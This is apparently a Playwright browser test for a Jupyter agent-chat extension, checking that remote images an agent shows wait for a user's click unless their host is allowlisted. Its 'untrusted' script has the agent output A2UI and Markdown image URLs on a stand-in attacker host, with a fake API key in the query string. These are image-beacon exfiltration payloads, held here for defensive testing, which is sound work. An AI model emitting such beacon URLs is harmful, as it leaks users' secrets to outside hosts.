"""Remote images an agent shows (A2UI ``Image``, Markdown ``![]()``) send no request until the
user clicks their placeholder; hosts in ``a2ui.imageHosts`` load at once.

The "remote" host is a loopback HTTP server of this module's own (the machine has no other
network): ``127.0.0.1:<port>`` stands for an attacker's host (not in ``imageHosts``), and
``localhost:<port>``, the same server under a trusted name, for a CDN the user allowed. The page's
request log (Playwright) and the image server's own log both show what left the page.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from browser_harness import (
    CHROMIUM,
    STEP_MS,
    JupyterServer,
    NotebookPage,
    free_port,
    write_notebook,
)
from playwright.sync_api import Request, expect

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed"),
    pytest.mark.timeout(150),
]

# A 1x1 PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2b1d5a40000000049454e44ae426082"
)
PORT = free_port()
UNTRUSTED = f"http://127.0.0.1:{PORT}"
TRUSTED = f"http://localhost:{PORT}"
SECRET = "sk-live-0123456789"


def surface(surface_id: str, url: str) -> str:
    """Gaunt Sloth's A2UI v0.8 JSONL: a caption and an image."""
    messages = [
        {
            "surfaceUpdate": {
                "surfaceId": surface_id,
                "components": [
                    {
                        "id": "root",
                        "component": {"Column": {"children": {"explicitList": ["t", "pic"]}}},
                    },
                    {"id": "t", "component": {"Text": {"text": {"literalString": "Your chart"}}}},
                    {
                        "id": "pic",
                        "component": {
                            "Image": {
                                "url": {"literalString": url},
                                "description": {"literalString": "chart"},
                            }
                        },
                    },
                ],
            }
        },
        {"beginRendering": {"surfaceId": surface_id, "root": "root"}},
    ]
    return "\n".join(json.dumps(m) for m in messages)


SCRIPTS: dict[str, list[Any]] = {
    "untrusted": [
        {
            "content": "Here is your chart.",
            "toolCalls": [
                {
                    "name": "show_a2ui_surface",
                    "args": {"surfaceJsonl": surface("beacon", f"{UNTRUSTED}/a2ui.png?d={SECRET}")},
                }
            ],
        },
        f"Done. ![inline beacon]({UNTRUSTED}/md.png?d={SECRET})",
    ],
    "trusted": [
        {
            "content": "From your CDN.",
            "toolCalls": [
                {
                    "name": "show_a2ui_surface",
                    "args": {"surfaceJsonl": surface("cdn", f"{TRUSTED}/cdn.png")},
                }
            ],
        },
        f"And inline: ![cdn]({TRUSTED}/cdn-md.png)",
    ],
}


class ImageServer:
    """Serves the PNG at any path on 127.0.0.1:PORT and logs each path requested."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        log = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                log.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.httpd = ThreadingHTTPServer(("127.0.0.1", PORT), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def images() -> Iterator[ImageServer]:
    server = ImageServer()
    try:
        yield server
    finally:
        server.close()


# The suite's server, with ``a2ui.imageHosts: ["localhost"]`` in its configuration.
EXTRA_CONFIG = {"a2ui": {"imageHosts": ["localhost"]}}


def watch(nb: NotebookPage) -> list[str]:
    """Every URL the page requests from the image server, from now on."""
    seen: list[str] = []

    def on_request(req: Request) -> None:
        if f":{PORT}/" in req.url:
            seen.append(req.url)

    nb.page.on("request", on_request)
    return seen


def open_chat(nb: NotebookPage, name: str, prompt: str) -> Any:
    write_notebook(
        nb.server.root / f"{name}.ipynb", ["%load_ext gth_jupyter", f"%gth {prompt}", ""]
    )
    nb.open(f"{name}.ipynb")
    nb.run_cells(0, 1)
    return nb.ready_widget()


def test_remote_images_wait_for_a_click(
    jupyter: JupyterServer, notebook: NotebookPage, images: ImageServer
) -> None:
    jupyter.use_script("untrusted")
    del images.paths[:]  # the server outlives each test (one per app)
    requested = watch(notebook)
    root = open_chat(notebook, f"images-{jupyter.app}", "show me the chart")
    surface_el = root.locator(".gth-a2ui-surface[data-surface-id=beacon]")
    expect(surface_el).to_be_visible(timeout=STEP_MS)
    expect(root.locator(".gth-msg-assistant").last).to_contain_text("Done.", timeout=STEP_MS)
    expect(root).to_have_attribute("data-state", "idle")

    a2ui_button = surface_el.locator("button.gth-media-placeholder")
    md_button = root.locator(".gth-markdown button.gth-media-placeholder")
    expect(a2ui_button).to_contain_text("Image from 127.0.0.1")
    expect(md_button).to_contain_text("Image from 127.0.0.1")
    notebook.page.wait_for_timeout(1000)  # time for any stray request to leave
    notebook.shot("placeholders")
    assert requested == [], requested
    assert images.paths == [], images.paths
    assert root.locator(f"img[src*=':{PORT}/']").count() == 0

    # One click loads the surface's image, and only it.
    a2ui_button.click()
    img = surface_el.locator("[data-component-id=pic] img")
    expect(img).to_be_visible(timeout=STEP_MS)
    assert img.evaluate("i => i.decode().then(() => i.naturalWidth)") == 1
    assert requested == [f"{UNTRUSTED}/a2ui.png?d={SECRET}"]
    assert images.paths == [f"/a2ui.png?d={SECRET}"]
    assert img.get_attribute("referrerpolicy") == "no-referrer"

    md_button.click()
    md_img = root.locator(".gth-markdown img.gth-media")
    expect(md_img).to_be_visible(timeout=STEP_MS)
    assert md_img.evaluate("i => i.decode().then(() => i.naturalWidth)") == 1
    assert images.paths == [f"/a2ui.png?d={SECRET}", f"/md.png?d={SECRET}"]
    notebook.shot("loaded")
    assert not root.locator(".gth-error").count()


def test_image_hosts_load_at_once(
    jupyter: JupyterServer, notebook: NotebookPage, images: ImageServer
) -> None:
    script = jupyter.use_script("trusted")
    info = jupyter.api("GET", "gth/info")
    if "a2ui" not in info:
        pytest.skip("GET gth/info does not carry a2ui.imageHosts yet (the Python side)")
    assert info["a2ui"] == {"imageHosts": ["localhost"]}
    del images.paths[:]
    root = open_chat(notebook, f"cdn-{jupyter.app}", "show the CDN chart")
    img = root.locator(".gth-a2ui-surface[data-surface-id=cdn] [data-component-id=pic] img")
    expect(img).to_be_visible(timeout=STEP_MS)
    md_img = root.locator(".gth-markdown img.gth-media")
    expect(md_img).to_be_visible(timeout=STEP_MS)
    assert root.locator("button.gth-media-placeholder").count() == 0
    assert sorted(images.paths) == ["/cdn-md.png", "/cdn.png"]
    assert len(script.records()) == 2
    notebook.shot("trusted")
